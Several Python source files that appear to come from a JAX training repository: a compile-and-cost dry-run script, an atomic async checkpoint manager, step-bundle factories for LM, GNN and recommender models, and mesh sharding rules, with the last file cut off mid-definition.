COLLECTIVES = ("all-reduce", "all-gather", "reduce-scatter", "all-to-all",
               "collective-permute")

_DTYPE_BYTES = {
    "pred": 1, "s8": 1, "u8": 1, "s16": 2, "u16": 2, "bf16": 2, "f16": 2,
    "s32": 4, "u32": 4, "f32": 4, "s64": 8, "u64": 8, "f64": 8, "c64": 8,
    "c128": 16, "f8e4m3fn": 1, "f8e5m2": 1,
}

_SHAPE_RE = re.compile(r"(\w+)\[([\d,]*)\]")


def _shape_bytes(type_str: str) -> int:
    """Sum bytes over every 'dtype[dims]' in an HLO type string (handles
    tuples)."""
    total = 0
    for dt, dims in _SHAPE_RE.findall(type_str):
        if dt not in _DTYPE_BYTES:
            continue
        n = 1
        if dims:
            for d in dims.split(","):
                n *= int(d)
        total += n * _DTYPE_BYTES[dt]
    return total


def parse_collectives(hlo_text: str) -> dict:
    """Per-device collective schedule: op counts + output bytes + estimated
    wire bytes (ring algorithm: all-reduce 2x payload, others ~1x)."""
    stats = {c: dict(count=0, bytes=0) for c in COLLECTIVES}
    for line in hlo_text.splitlines():
        s = line.strip()
        if not s or "=" not in s:
            continue
        m = re.match(r"%?[\w.\-]+\s*=\s*(\([^)]*\)|\S+)\s+([\w\-]+)", s)
        if not m:
            continue
        op = m.group(2)
        # match e.g. all-reduce, all-gather-start, all-reduce-done
        base = None
        for c in COLLECTIVES:
            if op == c or op.startswith(c + "-start"):
                base = c
                break
        if base is None:
            continue
        stats[base]["count"] += 1
        stats[base]["bytes"] += _shape_bytes(m.group(1))
    wire = 0
    for c, st in stats.items():
        factor = 2.0 if c == "all-reduce" else 1.0
        wire += factor * st["bytes"]
    return dict(per_op=stats, wire_bytes_per_device=wire)


def roofline_terms(per_dev_flops, per_dev_bytes, wire_bytes, n_chips,
                   hw=None):
    from .mesh import HW
    hw = hw or HW
    return dict(
        compute_s=per_dev_flops / hw["peak_flops_bf16"],
        memory_s=per_dev_bytes / hw["hbm_bw"],
        collective_s=wire_bytes / hw["ici_bw"],
        n_chips=n_chips,
    )


def _lower_compile(spec, shape_name, mesh):
    from .steps import build_bundle
    bundle = build_bundle(spec, shape_name, mesh)
    # `with mesh` enters the legacy mesh context; set_mesh additionally
    # sets the sharding context that shard_map/with_sharding_constraint
    # resolve axis names against (no-op on older JAX).
    from ..jax_compat import set_mesh
    with mesh, set_mesh(mesh):
        jitted = jax.jit(bundle.fn,
                         in_shardings=bundle.in_shardings,
                         out_shardings=bundle.out_shardings,
                         donate_argnums=bundle.donate_argnums)
        lowered = jitted.lower(*bundle.args)
        compiled = lowered.compile()
    return compiled


def _cost_of(compiled, skip_hlo=False):
    cost = compiled.cost_analysis()
    if isinstance(cost, (list, tuple)):
        cost = cost[0] if cost else {}
    flops = float(cost.get("flops", 0.0))
    byts = float(cost.get("bytes accessed", 0.0))
    coll = (dict(per_op={}, wire_bytes_per_device=0.0) if skip_hlo
            else parse_collectives(compiled.as_text()))
    return flops, byts, coll


def measured_cost(spec, shape_name, mesh, skip_hlo=False):
    """Scan-corrected per-device cost: two unrolled reduced-depth variants,
    linear fit in n_layers, extrapolated to the real depth, rescaled by the
    microbatch count (see steps.analysis_variant)."""
    from .steps import analysis_variant
    var = analysis_variant(spec, shape_name, 2, mesh)
    if var is None:  # no scans in this family: real compile is exact
        return None
    cfg_layers = spec.config.n_layers
    pts = []
    for L in (2, 4):
        spec2, shape2, scale = analysis_variant(spec, shape_name, L, mesh)
        comp = _lower_compile(spec2, shape_name, mesh)
        f, b, c = _cost_of(comp, skip_hlo)
        pts.append((L, f, b, c["wire_bytes_per_device"], scale))
    (l1, f1, b1, w1, sc), (l2, f2, b2, w2, _) = pts

    def fit(c1, c2):
        slope = (c2 - c1) / (l2 - l1)
        return max((c1 - slope * l1) + slope * cfg_layers, 0.0)

    return dict(flops=fit(f1, f2) * sc,
                bytes_accessed=fit(b1, b2) * sc,
                wire_bytes=fit(w1, w2) * sc,
                fit_points=[dict(L=p[0], flops=p[1], bytes=p[2],
                                 wire=p[3]) for p in pts],
                microbatch_scale=sc)


def run_cell(arch_id: str, shape_name: str, multi_pod: bool,
             skip_hlo: bool = False) -> dict:
    from ..configs import get_arch
    from .mesh import HW, make_production_mesh

    spec = get_arch(arch_id)
    shape = spec.shapes[shape_name]
    if shape.skip:
        return dict(arch=arch_id, shape=shape_name,
                    mesh="multi" if multi_pod else "single",
                    status="skipped", reason=shape.skip)
    t0 = time.time()
    mesh = make_production_mesh(multi_pod=multi_pod)
    n_chips = int(np.prod(list(mesh.shape.values())))
    t_lower = time.time() - t0
    compiled = _lower_compile(spec, shape_name, mesh)
    t_compile = time.time() - t0 - t_lower

    mem = compiled.memory_analysis()
    mem_info = dict(
        argument_bytes=getattr(mem, "argument_size_in_bytes", None),
        output_bytes=getattr(mem, "output_size_in_bytes", None),
        temp_bytes=getattr(mem, "temp_size_in_bytes", None),
        alias_bytes=getattr(mem, "alias_size_in_bytes", None),
        code_bytes=getattr(mem, "generated_code_size_in_bytes", None),
    )
    live = ((mem_info["argument_bytes"] or 0)
            + (mem_info["output_bytes"] or 0)
            + (mem_info["temp_bytes"] or 0)
            - (mem_info["alias_bytes"] or 0))
    raw_flops, raw_bytes, coll = _cost_of(compiled, skip_hlo)
    # scan-corrected measurement (while bodies count once in XLA's model)
    corr = measured_cost(spec, shape_name, mesh, skip_hlo)
    if corr is not None:
        flops, bytes_accessed = corr["flops"], corr["bytes_accessed"]
        wire = corr["wire_bytes"]
    else:
        flops, bytes_accessed = raw_flops, raw_bytes
        wire = coll["wire_bytes_per_device"]
    terms = roofline_terms(flops, bytes_accessed, wire, n_chips)
    return dict(
        arch=arch_id, shape=shape_name,
        mesh="multi" if multi_pod else "single",
        status="ok", kind=shape.kind,
        n_chips=n_chips,
        lower_s=round(t_lower, 1), compile_s=round(t_compile, 1),
        per_device=dict(flops=flops, bytes_accessed=bytes_accessed,
                        wire_bytes=wire, live_bytes=live,
                        raw_while_once=dict(flops=raw_flops,
                                            bytes=raw_bytes), **mem_info),
        fits_hbm=bool(live <= HW["hbm_bytes"]) if live else None,
        collectives=coll, scan_correction=corr, roofline=terms,
    )


def main(argv=None):
    ap = argparse.ArgumentParser()
    ap.add_argument("--arch")
    ap.add_argument("--shape")
    ap.add_argument("--mesh", choices=["single", "multi", "both"],
                    default="both")
    ap.add_argument("--all", action="store_true")
    ap.add_argument("--out", default=None)
    ap.add_argument("--skip-hlo", action="store_true",
                    help="skip collective parsing (faster)")
    args = ap.parse_args(argv)

    from ..configs import all_cells
    cells = all_cells(include_skipped=True) if args.all else \
        [(args.arch, args.shape)]
    meshes = {"single": [False], "multi": [True],
              "both": [False, True]}[args.mesh]
    results = []
    for arch_id, shape_name in cells:
        for mp in meshes:
            tag = f"{arch_id}/{shape_name}/{'multi' if mp else 'single'}"
            try:
                r = run_cell(arch_id, shape_name, mp,
                             skip_hlo=args.skip_hlo)
            except Exception as e:  # record failures, keep going
                r = dict(arch=arch_id, shape=shape_name,
                         mesh="multi" if mp else "single",
                         status="error", error=f"{type(e).__name__}: {e}",
                         trace=traceback.format_exc()[-2000:])
            results.append(r)
            status = r["status"]
            extra = ""
            if status == "ok":
                t = r["roofline"]
                extra = (f" flops/dev={r['per_device']['flops']:.3e}"
                         f" live={r['per_device']['live_bytes']/2**30:.2f}GiB"
                         f" comp={t['compute_s']:.4f}s"
                         f" mem={t['memory_s']:.4f}s"
                         f" coll={t['collective_s']:.4f}s")
            elif status == "error":
                extra = " " + r["error"][:200]
            print(f"[dryrun] {tag}: {status}{extra}", flush=True)
            if args.out:
                with open(args.out, "w") as f:
                    json.dump(results, f, indent=1)
    n_err = sum(r["status"] == "error" for r in results)
    print(f"[dryrun] done: {len(results)} cells, {n_err} errors", flush=True)
    return 1 if n_err else 0


if __name__ == "__main__":
    sys.exit(main())
