"""Checkpoint/restart substrate.

Design for 1000+ nodes (scaled down to run anywhere):
  * step checkpoints contain params + optimizer state + data-pipeline
    cursor + RNG key, flattened to a single npz per save,
  * writes are ATOMIC (tmp file + os.replace) so a preemption mid-save
    never corrupts the latest checkpoint,
  * saves are ASYNC (background thread) — the train loop only blocks on
    the previous save when it wants to start a new one,
  * a manifest (JSON) tracks the latest complete step; restore reads the
    manifest, never "newest file" guesses,
  * retention: keep_last N checkpoints are kept, older ones deleted.

On a real multi-host deployment every host saves only its addressable
shards (jax.experimental.multihost_utils / ocp would slot in here); the
layout and atomicity protocol stay identical.
"""
from __future__ import annotations

import json
import os
import threading
import time

import jax
import numpy as np


class CheckpointManager:
    def __init__(self, directory: str, *, keep_last: int = 3):
        self.dir = directory
        self.keep_last = keep_last
        os.makedirs(directory, exist_ok=True)
        self._thread: threading.Thread | None = None

    # ------------------------------------------------------------- save
    def _manifest_path(self) -> str:
        return os.path.join(self.dir, "MANIFEST.json")

    def _ckpt_path(self, step: int) -> str:
        return os.path.join(self.dir, f"step_{step:010d}.npz")

    def save(self, step: int, state_tree, *, blocking: bool = False,
             extra: dict | None = None) -> None:
        """Async atomic save of a pytree; ``extra`` carries the data
        cursor / schedule metadata."""
        self.wait()
        leaves, treedef = jax.tree.flatten(state_tree)
        host_leaves = [np.asarray(x) for x in leaves]

        def _write():
            path = self._ckpt_path(step)
            tmp = path + ".tmp.npz"
            with open(tmp, "wb") as f:
                np.savez(f, **{f"leaf_{i}": a for i, a in
                               enumerate(host_leaves)})
            os.replace(tmp, path)
            man = dict(latest_step=step, n_leaves=len(host_leaves),
                       treedef=str(treedef), time=time.time(),
                       extra=extra or {})
            mtmp = self._manifest_path() + ".tmp"
            with open(mtmp, "w") as f:
                json.dump(man, f)
            os.replace(mtmp, self._manifest_path())
            self._gc(step)

        if blocking:
            _write()
        else:
            self._thread = threading.Thread(target=_write, daemon=True)
            self._thread.start()

    def wait(self) -> None:
        if self._thread is not None:
            self._thread.join()
            self._thread = None

    def _gc(self, latest: int) -> None:
        ckpts = sorted(f for f in os.listdir(self.dir)
                       if f.startswith("step_") and f.endswith(".npz"))
        for f in ckpts[:-self.keep_last]:
            try:
                os.remove(os.path.join(self.dir, f))
            except OSError:
                pass

    # ---------------------------------------------------------- restore
    def latest_step(self) -> int | None:
        try:
            with open(self._manifest_path()) as f:
                return int(json.load(f)["latest_step"])
        except (OSError, ValueError, KeyError):
            return None

    def manifest(self) -> dict | None:
        try:
            with open(self._manifest_path()) as f:
                return json.load(f)
        except OSError:
            return None

    def restore(self, state_like, *, step: int | None = None,
                shardings=None):
        """Restore into the structure of ``state_like``; optionally place
        each leaf with the given shardings (elastic re-mesh path)."""
        step = step if step is not None else self.latest_step()
        if step is None:
            return None, None
        data = np.load(self._ckpt_path(step))
        leaves, treedef = jax.tree.flatten(state_like)
        new_leaves = [data[f"leaf_{i}"] for i in range(len(leaves))]
        if shardings is not None:
            sh_leaves = jax.tree.flatten(shardings)[0]
            new_leaves = [jax.device_put(a, s)
                          for a, s in zip(new_leaves, sh_leaves)]
        else:
            new_leaves = [jax.numpy.asarray(a) for a in new_leaves]
        return treedef.unflatten(new_leaves), step
