"""Step factories: build (fn, abstract args, shardings) bundles for every
(arch x shape) cell — consumed by the dry-run, the trainers and the tests.

LM training implements the large-scale schedule:
  * microbatched gradient accumulation (lax.scan over the reshaped batch),
  * full remat inside the layer scan,
  * sequence-chunked cross-entropy,
  * AdamW (f32 moments) or Adafactor (factored + bf16 moment, arctic),
  * donated params/opt-state buffers.
"""
from __future__ import annotations

from dataclasses import dataclass, replace
from functools import partial
from typing import Any, Callable

import jax
import jax.numpy as jnp
from jax.sharding import NamedSharding, PartitionSpec as P

from ..configs.base import ArchSpec, ShapeSpec
from ..models import gnn as gnn_mod
from ..models import recsys as rs
from ..models import transformer as tf_mod
from ..optim.adafactor import (AdafactorConfig, AdafactorState,
                               adafactor_update, init_adafactor)
from ..optim.adam import AdamConfig, AdamState, adam_update, init_adam
from . import shardings as sh


@dataclass
class StepBundle:
    name: str
    fn: Callable
    args: tuple                 # abstract arg trees (ShapeDtypeStruct)
    in_shardings: tuple
    out_shardings: Any
    donate_argnums: tuple = ()
    static_notes: str = ""


def _p(spec_list):
    return P(*spec_list)


def _drop_axis(spec: P, axis_from_end: int) -> P:
    parts = list(spec)
    if len(parts) == 0:
        return spec
    idx = len(parts) - axis_from_end
    if 0 <= idx < len(parts):
        parts.pop(idx)
    return P(*parts)


def opt_specs_for(optimizer: str, param_specs, params_abs):
    is_p = lambda x: isinstance(x, P)
    if optimizer == "adamw":
        return AdamState(step=P(), mu=param_specs, nu=param_specs)
    # adafactor: vr drops last axis (ndim>=2), vc drops second-to-last
    vr = jax.tree.map(
        lambda s, a: _drop_axis(s, 1) if len(a.shape) >= 2 else s,
        param_specs, params_abs, is_leaf=is_p)
    vc = jax.tree.map(
        lambda s, a: _drop_axis(s, 2) if len(a.shape) >= 2 else P(None),
        param_specs, params_abs, is_leaf=is_p)
    return AdafactorState(step=P(), mu=param_specs, vr=vr, vc=vc)


def make_optimizer(spec: ArchSpec):
    if spec.optimizer == "adafactor":
        cfg = AdafactorConfig()
        return cfg, init_adafactor, adafactor_update
    cfg = AdamConfig()
    return cfg, (lambda c, p: init_adam(p)) if False else init_adam, \
        adam_update


def _init_opt(spec: ArchSpec, ocfg, params):
    if spec.optimizer == "adafactor":
        return init_adafactor(ocfg, params)
    return init_adam(params)


def _opt_update(spec: ArchSpec, ocfg, params, grads, opt):
    if spec.optimizer == "adafactor":
        return adafactor_update(ocfg, params, grads, opt)
    return adam_update(ocfg, params, grads, opt)


# ------------------------------------------------------------ loss dispatch
def family_loss(spec: ArchSpec):
    cfg = spec.config
    if spec.family == "lm":
        return lambda p, b: tf_mod.lm_loss(cfg, p, b)[0]
    if spec.family == "gnn":
        return lambda p, b: gnn_mod.gnn_loss(cfg, p, b)[0]
    name = type(cfg).__name__
    fns = {"XDeepFMConfig": rs.xdeepfm_loss, "SASRecConfig": rs.sasrec_loss,
           "MINDConfig": rs.mind_loss, "TwoTowerConfig": rs.twotower_loss}
    return lambda p, b: fns[name](cfg, p, b)[0]


def family_init(spec: ArchSpec, smoke: bool = False, cfg_override=None):
    cfg = cfg_override or (spec.smoke_config if smoke else spec.config)
    if spec.family == "lm":
        return lambda rng: tf_mod.init_params(cfg, rng)
    if spec.family == "gnn":
        return lambda rng: gnn_mod.init_params(cfg, rng)
    name = type(cfg).__name__
    fns = {"XDeepFMConfig": rs.xdeepfm_init, "SASRecConfig": rs.sasrec_init,
           "MINDConfig": rs.mind_init, "TwoTowerConfig": rs.twotower_init}
    return lambda rng: fns[name](cfg, rng)


def serve_fn(spec: ArchSpec, shape: ShapeSpec):
    cfg = spec.config
    name = type(cfg).__name__
    if shape.kind == "serve":
        fns = {"XDeepFMConfig": lambda p, b: rs.xdeepfm_logits(cfg, p,
                                                               b["idx"]),
               "SASRecConfig": partial(rs.sasrec_serve, cfg),
               "MINDConfig": partial(rs.mind_serve, cfg),
               "TwoTowerConfig": partial(rs.twotower_serve, cfg)}
    else:
        fns = {"XDeepFMConfig": partial(rs.xdeepfm_retrieval, cfg),
               "SASRecConfig": partial(rs.sasrec_retrieval, cfg),
               "MINDConfig": partial(rs.mind_retrieval, cfg),
               "TwoTowerConfig": partial(rs.twotower_retrieval, cfg)}
    return fns[name]


# -------------------------------------------------------------- LM builder
def _gnn_cfg_for_shape(cfg, shape: ShapeSpec):
    return replace(cfg, d_node_in=shape.dims["d_feat"])


def make_train_step(spec: ArchSpec, shape: ShapeSpec,
                    batch_axes: tuple = ("data",)):
    """Returns train_step(params, opt_state, batch) -> (params', opt',
    metrics).  ``batch_axes``: mesh axes the global batch is sharded over —
    re-asserted after the microbatch reshape (otherwise SPMD is free to
    shard the n_micro dim and replicate the batch, a 16x memory blowup we
    hit on arctic)."""
    cfg = spec.config
    if spec.family == "gnn":
        cfg = _gnn_cfg_for_shape(cfg, shape)
        loss_fn = lambda p, b: gnn_mod.gnn_loss(cfg, p, b)[0]
    elif spec.family == "lm":
        loss_fn = lambda p, b: tf_mod.lm_loss(cfg, p, b)[0]
    else:
        loss_fn = family_loss(spec)
    ocfg, _, _ = make_optimizer(spec)
    n_micro = shape.n_microbatches
    accum_dt = jnp.dtype(spec.grad_accum_dtype)

    def train_step(params, opt_state, batch):
        if n_micro <= 1:
            loss, grads = jax.value_and_grad(loss_fn)(params, batch)
        else:
            def reshard(x):
                mb = x.reshape(n_micro, x.shape[0] // n_micro, *x.shape[1:])
                spec_ = P(None, batch_axes,
                          *([None] * (mb.ndim - 2)))
                return jax.lax.with_sharding_constraint(mb, spec_)

            micro = jax.tree.map(reshard, batch)

            def mstep(acc, mb):
                l, g = jax.value_and_grad(loss_fn)(params, mb)
                acc = jax.tree.map(
                    lambda a, gg: a + gg.astype(a.dtype), acc, g)
                return acc, l

            acc0 = jax.tree.map(
                lambda p: jnp.zeros(p.shape, accum_dt), params)
            grads, losses = jax.lax.scan(mstep, acc0, micro)
            grads = jax.tree.map(lambda g: g / n_micro, grads)
            loss = jnp.mean(losses)
        params, opt_state, om = _opt_update(spec, ocfg, params, grads,
                                            opt_state)
        return params, opt_state, dict(loss=loss, **om)

    return train_step


def make_serve_step(spec: ArchSpec, shape: ShapeSpec):
    cfg = spec.config
    if spec.family == "lm":
        if shape.kind == "prefill":
            return lambda params, batch: tf_mod.prefill(cfg, params,
                                                        batch["tokens"])
        if shape.kind == "decode":
            cache_len = shape.dims["seq"] - 1

            def decode(params, batch):
                return tf_mod.decode_step(cfg, params, batch["cache"],
                                          batch["tokens"], cache_len)
            return decode
        raise ValueError(shape.kind)
    fn = serve_fn(spec, shape)
    return lambda params, batch: fn(params, batch)


# ------------------------------------------------------------ full bundles
def abstract_state(spec: ArchSpec, with_opt: bool, cfg_override=None):
    """eval_shape the param (and optimizer) trees — zero allocation."""
    init = family_init(spec, cfg_override=cfg_override)
    params = jax.eval_shape(lambda: init(jax.random.PRNGKey(0)))
    if not with_opt:
        return params, None
    ocfg, _, _ = make_optimizer(spec)
    opt = jax.eval_shape(lambda: _init_opt(spec, ocfg,
                                           jax.tree.map(jnp.zeros_like,
                                                        params)))
    return params, opt


def build_bundle(spec: ArchSpec, shape_name: str, mesh) -> StepBundle:
    shape = spec.shapes[shape_name]
    cfg = spec.config
    if spec.family == "gnn":
        cfg_eff = _gnn_cfg_for_shape(cfg, shape)
    elif spec.family == "lm":
        bd = sh.batch_axes(mesh)
        # pin activation layout; bind the shard_map expert-parallel MoE
        # dispatch to this mesh (no-ops for dense archs)
        import os
        act_2d = os.environ.get("REPRO_ACT_SHARDING", "2d") == "2d"
        cfg_eff = replace(
            cfg, act_batch_axes=bd if shape.kind != "decode" else None,
            act_model_axis="model" if act_2d
            and cfg.d_model % mesh.shape["model"] == 0 else None,
            # It. 7: seq-parallel attention core when q heads don't
            # divide the TP axis (otherwise the core replicates)
            attn_seq_parallel=(cfg.n_heads % mesh.shape["model"] != 0
                               and shape.kind != "decode"),
            **(dict(moe_batch_axes=bd, moe_expert_axis="model",
                    moe_fsdp_axis="data" if spec.fsdp else None,
                    moe_expert_parallel=mesh.shape["model"])
               if cfg.is_moe else {}))
    else:
        cfg_eff = cfg
    spec = replace(spec, config=cfg_eff)
    if shape.kind == "train" and shape.n_microbatches > 1:
        # keep >=1 example per batch shard per microbatch
        shards = 1
        for a in sh.batch_axes(mesh):
            shards *= mesh.shape[a]
        n_eff = max(1, min(shape.n_microbatches,
                           shape.dims["batch"] // shards))
        while shape.dims["batch"] % (n_eff * shards) and n_eff > 1:
            n_eff -= 1
        shape = replace(shape, n_microbatches=n_eff)
    inputs = spec.inputs(cfg_eff, shape)

    param_rule = sh.PARAM_RULES[spec.family](cfg_eff, spec.fsdp, mesh)
    batch_rule = {"lm": sh.lm_batch_spec, "gnn": sh.gnn_batch_spec,
                  "recsys": sh.recsys_batch_spec}[spec.family](
        mesh, shape, cfg_eff)

    batch_specs = sh.tree_specs(inputs, batch_rule)
    ns = lambda t: jax.tree.map(lambda s: NamedSharding(mesh, s), t,
                                is_leaf=lambda x: isinstance(x, P))

    if shape.kind == "train":
        params_abs, opt_abs = abstract_state(spec, with_opt=True,
                                             cfg_override=cfg_eff)
        param_specs = sh.tree_specs(params_abs, param_rule)
        opt_specs = opt_specs_for(spec.optimizer, param_specs, params_abs)
        fn = make_train_step(spec, shape, batch_axes=sh.batch_axes(mesh))
        return StepBundle(
            name=f"{spec.id}:{shape_name}:train",
            fn=fn,
            args=(params_abs, opt_abs, inputs),
            in_shardings=(ns(param_specs), ns(opt_specs), ns(batch_specs)),
            out_shardings=(ns(param_specs), ns(opt_specs), None),
            donate_argnums=(0, 1))

    params_abs, _ = abstract_state(spec, with_opt=False,
                                   cfg_override=cfg_eff)
    param_specs = sh.tree_specs(params_abs, param_rule)
    fn = make_serve_step(spec, shape)
    if spec.family == "lm":
        out = sh.lm_out_spec(mesh, shape, cfg_eff)
        out_sh = ns(out)
        donate = (1,) if shape.kind == "decode" else ()
    else:
        out_sh = None
        donate = ()
    return StepBundle(
        name=f"{spec.id}:{shape_name}:{shape.kind}",
        fn=fn,
        args=(params_abs, inputs),
        in_shardings=(ns(param_specs), ns(batch_specs)),
        out_shardings=out_sh,
        donate_argnums=donate)


def analysis_variant(spec: ArchSpec, shape_name: str, n_layers: int,
                     mesh=None):
    """A reduced-depth, UNROLLED variant of the cell for cost extraction.

    XLA's cost model counts while-loop bodies once, so the dry-run lowers
    two unrolled variants (different n_layers), fits cost = a + b*L and
    extrapolates to the real depth.  Attention/CE chunk scans are widened
    to a single block so their flops are fully visible; LM training drops
    to one microbatch (costs scale back up by n_microbatches; the
    optimizer-step constant is overcounted by the same factor — negligible
    vs the matmul terms, noted in EXPERIMENTS.md)."""
    shape = spec.shapes[shape_name]
    cfg = spec.config
    if spec.family == "lm":
        seq = shape.dims["seq"]
        cfg2 = replace(cfg, n_layers=n_layers, scan_layers=False,
                       q_chunk=seq, kv_chunk=seq, ce_chunk=seq)
        dims = dict(shape.dims)
        scale = 1
        if shape.kind == "train" and shape.n_microbatches > 1:
            shards = 1
            if mesh is not None:
                for a in sh.batch_axes(mesh):
                    shards *= mesh.shape[a]
            scale = shape.n_microbatches
            # analysis batch must still shard over the batch axes
            while scale > 1 and (dims["batch"] // scale) % shards:
                scale //= 2
            dims["batch"] = dims["batch"] // scale
        shape2 = replace(shape, dims=dims, n_microbatches=1)
    elif spec.family == "gnn":
        cfg2 = replace(cfg, n_layers=n_layers, scan_layers=False)
        shape2, scale = shape, 1
    else:
        return None
    spec2 = replace(spec, config=cfg2, shapes={**spec.shapes,
                                               shape_name: shape2})
    return spec2, shape2, scale
