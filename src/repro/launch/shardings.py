"""Partition-spec rules per architecture family.

Mesh axes: ('data', 'model') single-pod, ('pod', 'data', 'model')
multi-pod.  Conventions (see DESIGN.md §4):

  LM    : DP/FSDP over pod x data; TP over model on the fused head dim and
          d_ff; EP over model for MoE expert blocks; vocab over model for
          embed/unembed; KV caches shard batch over data and sequence over
          model (decode_32k) or sequence over data x model (long_500k).
  GNN   : edge arrays over ALL axes (edge parallelism); nodes/params
          replicated; segment_sum partials combined by SPMD all-reduce.
  RecSys: embedding-table rows over model (huge_embedding axis); batch
          over pod x data; retrieval candidates over data x model.

Rules are path-regex based so optimizer-state trees (which mirror param
trees) inherit specs automatically.
"""
from __future__ import annotations

import re

import jax
import jax.numpy as jnp
from jax.sharding import NamedSharding, PartitionSpec as P


def batch_axes(mesh):
    return (("pod", "data") if "pod" in mesh.axis_names else ("data",))


def edge_axes(mesh):
    return tuple(mesh.axis_names)  # all axes combined


def _dim(mesh, name):
    return mesh.shape[name]


def _divisible(n, mesh, axes) -> bool:
    total = 1
    for a in (axes if isinstance(axes, tuple) else (axes,)):
        total *= _dim(mesh, a)
    return n % total == 0


# --------------------------------------------------------------------- LM
def lm_param_spec(cfg, fsdp: bool, mesh):
    """Returns fn(path_str, shape) -> PartitionSpec."""
    m = _dim(mesh, "model")
    fs = "data" if fsdp else None

    def spec(path: str, shape) -> P:
        nd = len(shape)
        if "embed" in path or "unembed" in path:
            # (V, D) / (D, V): vocab over model
            if path.endswith("embed") and shape[0] == cfg.vocab:
                return P("model", *([None] * (nd - 1)))
            return P(*([None] * (nd - 1)), "model")
        if re.search(r"\bmoe/(w_gate|w_up)$", path):
            return P(None, "model", fs, None)      # (L, E, D, F)
        if re.search(r"\bmoe/w_down$", path):
            return P(None, "model", None, fs)      # (L, E, F, D)
        if re.search(r"\bmoe/router$", path):
            return P(None, fs, None)               # (L, D, E)
        if re.search(r"(mlp|dense)/(w_gate|w_up)$", path):
            return P(None, fs, "model") if shape[-1] % m == 0 \
                else P(None, fs, None)             # (L, D, F)
        if re.search(r"(mlp|dense)/w_down$", path):
            return P(None, "model", fs) if shape[-2] % m == 0 \
                else P(None, None, fs)             # (L, F, D)
        # Attention TP sharding is head-granular, NOT fused-dim-granular:
        # sharding (H*Dh) when H % model != 0 makes GSPMD factorize the
        # split across the d_head CONTRACTION dim, which materializes
        # partial attention scores and all-reduces them — measured 56 GiB
        # per layer on arctic prefill_32k (see EXPERIMENTS.md §Perf).
        # Rule: shard q-side iff n_heads % model == 0, kv-side iff
        # n_kv_heads % model == 0; otherwise REPLICATE over model
        # (Megatron GQA convention: each TP rank keeps full K/V).
        # Non-divisible head counts (arctic: 56 q-heads, 8 kv-heads vs
        # model=16) fall back to ROW-PARALLEL projections: the input
        # d_model dim shards over 'model' (one psum per projection), the
        # attention core runs data-parallel.  Fully replicating the
        # projections instead cost 2.6x HLO FLOPs on arctic train
        # (EXPERIMENTS.md §Perf iteration 6).
        q_ok = getattr(cfg, "n_heads", 0) % m == 0
        kv_ok = getattr(cfg, "n_kv_heads", 0) % m == 0
        if re.search(r"w[q]$", path):
            return P(None, fs, "model") if q_ok else P(None, "model", fs)
        if re.search(r"w[kv]$", path):
            return P(None, fs, "model") if kv_ok else P(None, "model", fs)
        if path.endswith("wo"):
            return P(None, "model", fs) if q_ok \
                else P(None, fs, "model")          # (L, H*Dh, D)
        if "ln" in path:
            return P(*([None] * nd))
        return P(*([None] * nd))

    return spec


def lm_batch_spec(mesh, shape_spec, cfg):
    """Rule (path, shape) -> PartitionSpec for LM step inputs."""
    bd = batch_axes(mesh)
    seq_policy = shape_spec.decode_policy == "seq"

    def rule(path: str, shape) -> P:
        if "cache" in path:                        # (L, B, S, Hkv, Dh)
            if seq_policy:
                return P(None, None, tuple(mesh.axis_names), None, None)
            return P(None, bd, "model", None, None)
        if path.endswith("tokens") and len(shape) == 1:   # decode tokens
            return P(None) if seq_policy else P(bd)
        return P(bd, *([None] * (len(shape) - 1)))

    return rule


def lm_out_spec(mesh, shape_spec, cfg):
    """Output specs: prefill -> (cache, logits); decode ->
    (cache, next_tokens, logits)."""
    bd = batch_axes(mesh)
    seq_policy = shape_spec.decode_policy == "seq"
    if shape_spec.kind == "prefill":
        cache = P(None, bd, "model", None, None)   # (L, B, S, Hkv, Dh)
        return ({"k": cache, "v": cache}, P(bd, None))
    if shape_spec.kind == "decode":
        if seq_policy:
            cache = P(None, None, tuple(mesh.axis_names), None, None)
            return ({"k": cache, "v": cache}, P(None), P(None, "model"))
        cache = P(None, bd, "model", None, None)
        return ({"k": cache, "v": cache}, P(bd), P(bd, "model"))
    raise ValueError(shape_spec.kind)


# -------------------------------------------------------------------- GNN
def gnn_batch_spec(mesh, shape_spec, cfg):
    e = edge_axes(mesh)

    def rule(path: str, shape) -> P:
        if any(k in path for k in ("edges", "senders", "receivers",
                                   "edge_mask")):
            return P(e, *([None] * (len(shape) - 1)))
        return P(*([None] * len(shape)))           # nodes/targets replicated

    return rule


def gnn_param_spec(cfg, fsdp, mesh):
    def spec(path, shape):
        return P(*([None] * len(shape)))
    return spec


# ----------------------------------------------------------------- RecSys
# Embedding tables below this size are REPLICATED per chip: sharding a
# 200 MB table over 'model' turns every lookup into a dense f32
# all-reduce of the gathered activations (measured 6.6 GiB/device on
# sasrec serve_bulk — EXPERIMENTS.md §Perf iteration 5).  The paper's
# core lesson transfers: move the small structure to the data, never the
# data to the structure.
REPLICATE_TABLE_BYTES = 512 << 20


def recsys_param_spec(cfg, fsdp, mesh):
    m = _dim(mesh, "model")

    def spec(path, shape):
        nd = len(shape)
        n_bytes = 4
        for s in shape:
            n_bytes *= s
        huge = nd >= 1 and shape[0] >= 10000 \
            and n_bytes > REPLICATE_TABLE_BYTES
        if ("table" in path or "item_emb" in path or "wide" in path
                or "corpus" in path) and huge:
            return P("model", *([None] * (nd - 1)))
        return P(*([None] * nd))

    return spec


def recsys_batch_spec(mesh, shape_spec, cfg):
    bd = batch_axes(mesh)
    cand_ax = tuple(mesh.axis_names)
    kind = shape_spec.kind

    def rule(path: str, shape) -> P:
        if kind == "retrieval":
            if path.endswith("cand"):
                return P(cand_ax, *([None] * (len(shape) - 1)))
            return P(*([None] * len(shape)))     # single query replicated
        return P(bd, *([None] * (len(shape) - 1)))

    return rule


# ------------------------------------------------------------- tree utils
def path_str(path) -> str:
    parts = []
    for p in path:
        if hasattr(p, "key"):
            parts.append(str(p.key))
        elif hasattr(p, "idx"):
            parts.append(str(p.idx))
        else:
            parts.append(str(p))
    return "/".join(parts)


def tree_specs(tree, rule):
    """Map a (path, shape) rule over a pytree of ShapeDtypeStruct/arrays."""
    return jax.tree_util.tree_map_with_path(
        lambda path, leaf: rule(path_str(path), leaf.shape), tree)


def tree_shardings(tree, rule, mesh):
    return jax.tree_util.tree_map_with_path(
        lambda path, leaf: NamedSharding(mesh,
                                         rule(path_str(path), leaf.shape)),
        tree)


def specs_to_shardings(spec_tree, mesh):
    return jax.tree.map(
        lambda s: NamedSharding(mesh, s), spec_tree,
        is_leaf=lambda x: isinstance(x, P))


PARAM_RULES = dict(lm=lm_param_spec, gnn=gnn_param_spec,
